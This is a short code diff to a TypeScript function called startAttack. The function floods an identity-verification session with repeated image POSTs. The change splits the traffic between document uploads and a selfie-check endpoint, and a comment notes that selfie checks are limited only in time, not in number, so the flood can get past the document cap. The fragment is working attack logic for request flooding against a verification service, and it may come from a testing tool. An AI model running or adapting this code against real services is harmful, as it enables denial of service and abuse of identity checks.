@@ -40,9 +40,16 @@ export function startAttack(caller: Caller, sessionId: string, pictures: readonl
   async function upload(at: number): Promise<void> {
     for (let n = at; !signal.aborted; n += 1) {
       const form = new FormData()
-      form.set('documentType', 'front')
-      form.set('document', new Blob([new Uint8Array(pictures[n % pictures.length]!)]), 'x.jpg')
-      const response = await send('photo', `${base}/document`, { method: 'POST', headers, body: form })
+      const picture = new Blob([new Uint8Array(pictures[n % pictures.length]!)])
+      // Documents are limited in number and read in the background; the check of a selfie is limited in time only.
+      const isSelfie = at % 2 === 1
+      if (isSelfie) form.set('selfie', picture, 'x.jpg')
+      else {
+        form.set('documentType', 'front')
+        form.set('document', picture, 'x.jpg')
+      }
+      const path = isSelfie ? 'selfie-check' : 'document'
+      const response = await send(path, `${base}/${path}`, { method: 'POST', headers, body: form })
       await response?.text().catch(() => {})
       await wait(20)
     }
